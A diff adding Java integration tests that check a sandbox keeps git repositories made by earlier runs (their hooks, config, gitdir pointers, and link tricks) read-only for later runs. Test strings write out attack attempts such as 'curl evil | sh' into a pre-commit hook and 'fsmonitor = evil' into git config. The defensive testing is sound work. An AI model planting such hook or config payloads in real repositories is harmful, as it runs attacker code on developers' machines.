@@ -185,6 +185,121 @@ class SandboxAcrossRunsIT extends AbstractSandboxIT {
                 .isEqualTo("source edited");
     }
 
+    /** Run 1 of the nested-repository attacks: a program makes a repository below the workspace root. */
+    private static final String GIT_INIT = "git init -q proj && echo 'exit 0' > proj/.git/hooks/pre-commit "
+            + "&& echo 'same run' >> proj/.git/hooks/pre-commit && echo made";
+
+    /** Run 2: tries to change the repository's hooks and configuration, and to move it; then ordinary work. */
+    private static final String TAMPER = SandboxTesting.TRY
+            + "print('hook', attempt(lambda: open('proj/.git/hooks/pre-commit', 'w').write('curl evil | sh')))\n"
+            + "print('new-hook', attempt(lambda: open('proj/.git/hooks/post-checkout', 'w').write('evil')))\n"
+            + "print('config', attempt(lambda: open('proj/.git/config', 'a').write('[core]\\nfsmonitor = evil\\n')))\n"
+            + "print('head', open('proj/.git/HEAD').read().strip())\n"
+            + "print('file', attempt(lambda: open('proj/notes.txt', 'w').write('mine')))\n"
+            + "print('move-git', attempt(lambda: os.rename('proj/.git', 'proj/git')))\n"
+            + "print('move-repo', attempt(lambda: os.rename('proj', 'proj2')))\n";
+
+    @Test
+    void should_protect_a_repository_a_run_created_below_the_workspace_root_from_the_next_run_on() {
+        // Run 1 creates the repository; within that run it is the program's (first creation below the top is not
+        // held by a placeholder), so writing its hook works.
+        RunResult made = sh(engine, ws, GIT_INIT);
+        assertThat(made.stdout()).as(made.stderr()).isEqualTo("made\n");
+        // Run 2 finds it and mounts it read-only, as the root's .git.
+        RunResult r = python(engine, ws, TAMPER);
+        assertThat(r.exitCode()).as(r.stderr()).isZero();
+        assertThat(r.stdout()).containsPattern("hook E(ROFS|ACCES)").containsPattern("new-hook E(ROFS|ACCES)")
+                .containsPattern("config E(ROFS|ACCES)").containsPattern("move-git E(BUSY|ROFS|XDEV)")
+                .containsPattern("move-repo E(BUSY|ROFS|XDEV)");
+        assertThat(engine.fs().readFile(ws, "work/proj/.git/hooks/pre-commit", 0, 100).contentAsString())
+                .isEqualTo("exit 0\nsame run\n");
+        assertThat(engine.fs().list(ws, "work/proj/.git/hooks")).noneMatch(f -> f.path().endsWith("post-checkout"));
+        // Positive control: the repository is readable, the files next to it are writable.
+        assertThat(r.stdout()).contains("head ref: refs/heads/").contains("file ok");
+        assertThat(engine.fs().readFile(ws, "work/proj/notes.txt", 0, 100).contentAsString()).isEqualTo("mine");
+        // And git itself cannot change it either: a commit needs to write .git.
+        RunResult commit = sh(engine, ws, "git -C proj -c user.name=a -c user.email=a@example.org commit -q "
+                + "--allow-empty --no-verify -m x 2>&1 || echo refused");
+        assertThat(commit.stdout()).contains("refused");
+    }
+
+    @Test
+    void should_leave_a_programs_own_repository_writable_when_the_profile_allows_nested_metadata_writes() {
+        try (SandboxEngine e = engineWith(PermissionProfile::withNestedMetadataWrites)) {
+            Workspace w = e.manager().createWorkspace("own-repos", WorkspacePolicy.DEFAULT);
+            assertThat(sh(e, w, GIT_INIT).stdout()).isEqualTo("made\n");
+            RunResult r = python(e, w, TAMPER);
+            assertThat(r.stdout()).as(r.stderr()).contains("hook ok").contains("new-hook ok").contains("config ok")
+                    .contains("file ok").contains("move-git ok").contains("move-repo ok");
+            assertThat(sh(e, w, "mv proj2/git proj2/.git && mv proj2 proj && echo back").stdout()).isEqualTo("back\n");
+            RunResult commit = sh(e, w, "git -C proj -c user.name=a -c user.email=a@example.org commit -q "
+                    + "--allow-empty --no-verify -m x && git -C proj log --oneline | wc -l");
+            assertThat(commit.stdout().strip()).as(commit.stderr()).isEqualTo("1");
+            // The root's own stays protected: no repository there, and none can be made.
+            RunResult root = sh(e, w, "mkdir \"$WORKSPACE_DIR/.git/x\" 2>/dev/null && echo made-root || echo refused");
+            assertThat(root.stdout()).isEqualTo("refused\n");
+        }
+    }
+
+    @Test
+    void should_protect_the_directory_a_git_file_of_a_previous_run_points_at() {
+        // Run 1: a repository whose .git is a file pointing at a directory elsewhere in the workspace.
+        RunResult made = sh(engine, ws, "git init -q --separate-git-dir=\"$PWD/gitdata\" wt && cat wt/.git "
+                + "&& echo 'exit 0' > gitdata/hooks/pre-commit && echo made");
+        assertThat(made.stdout()).as(made.stderr()).contains("gitdir: ").endsWith("made\n");
+        RunResult r = python(engine, ws, SandboxTesting.TRY
+                + "print('hook', attempt(lambda: open('gitdata/hooks/pre-commit', 'w').write('evil')))\n"
+                + "print('pointer', attempt(lambda: open('wt/.git', 'w').write('gitdir: /tmp/evil')))\n"
+                + "print('file', attempt(lambda: open('wt/notes.txt', 'w').write('mine')))\n");
+        assertThat(r.stdout()).as(r.stderr()).containsPattern("hook E(ROFS|ACCES)")
+                .containsPattern("pointer E(ROFS|ACCES)").contains("file ok");
+        assertThat(engine.fs().readFile(ws, "work/gitdata/hooks/pre-commit", 0, 100).contentAsString())
+                .isEqualTo("exit 0\n");
+    }
+
+    @Test
+    void should_refuse_to_run_when_a_previous_run_made_a_nested_protected_name_a_link() {
+        RunResult plant = sh(engine, ws, "mkdir -p proj real/hooks && ln -s ../real proj/.git && echo planted");
+        assertThat(plant.stdout()).isEqualTo("planted\n");
+        assertThatThrownBy(() -> sh(engine, ws, "echo evil > real/hooks/pre-commit"))
+                .isInstanceOf(PolicyViolationException.class).hasMessageContaining("'work/proj/.git'")
+                .hasMessageContaining("symbolic link");
+        assertThat(Path.of(ws.path(), "work/real/hooks/pre-commit")).doesNotExist();
+        // Positive control: once the link is gone, runs work again.
+        engine.fs().delete(ws, "work/proj/.git");
+        assertThat(sh(engine, ws, "echo ok").stdout()).isEqualTo("ok\n");
+    }
+
+    @Test
+    void should_refuse_a_nested_protected_file_that_a_hard_link_made_earlier_would_keep_writable() {
+        RunResult plant = sh(engine, ws, "git init -q proj && echo 'exit 0' > hook "
+                + "&& ln hook proj/.git/hooks/pre-commit && echo planted");
+        assertThat(plant.stdout()).as(plant.stderr()).isEqualTo("planted\n");
+        assertThatThrownBy(() -> sh(engine, ws, "echo 'curl evil | sh' > hook"))
+                .isInstanceOf(PolicyViolationException.class)
+                .hasMessageContaining("work/proj/.git/hooks/pre-commit").hasMessageContaining("hard link");
+        assertThat(engine.fs().readFile(ws, "work/proj/.git/hooks/pre-commit", 0, 100).contentAsString())
+                .isEqualTo("exit 0\n");
+        // Positive control: without the other name, runs work and the hook stays read-only.
+        engine.fs().delete(ws, "work/hook");
+        RunResult ok = sh(engine, ws, "echo evil > proj/.git/hooks/pre-commit 2>/dev/null || echo refused");
+        assertThat(ok.stdout()).isEqualTo("refused\n");
+    }
+
+    @Test
+    void should_forget_what_it_remembered_of_a_workspace_when_the_workspace_is_cleaned_up() {
+        Workspace w = engine.manager().createWorkspace("forget", WorkspacePolicy.DEFAULT);
+        assertThat(sh(engine, ws, "true").exitCode()).isZero();
+        assertThat(sh(engine, w, "mkdir -p a/b/c && echo ok").stdout()).isEqualTo("ok\n");
+        assertThat(sh(engine, w, "true").exitCode()).isZero();
+        assertThat(engine.rememberedDirectories(w)).as("the scans remember its tree").isGreaterThan(3);
+
+        engine.manager().cleanup(w);
+
+        assertThat(engine.rememberedDirectories(w)).isZero();
+        assertThat(engine.rememberedDirectories(ws)).as("another workspace is not affected").isPositive();
+    }
+
     @Test
     void should_protect_repositories_anywhere_in_a_host_directory_granted_writable() throws IOException {
         Path grant = hostDir("projects", "todo.txt", "todo");
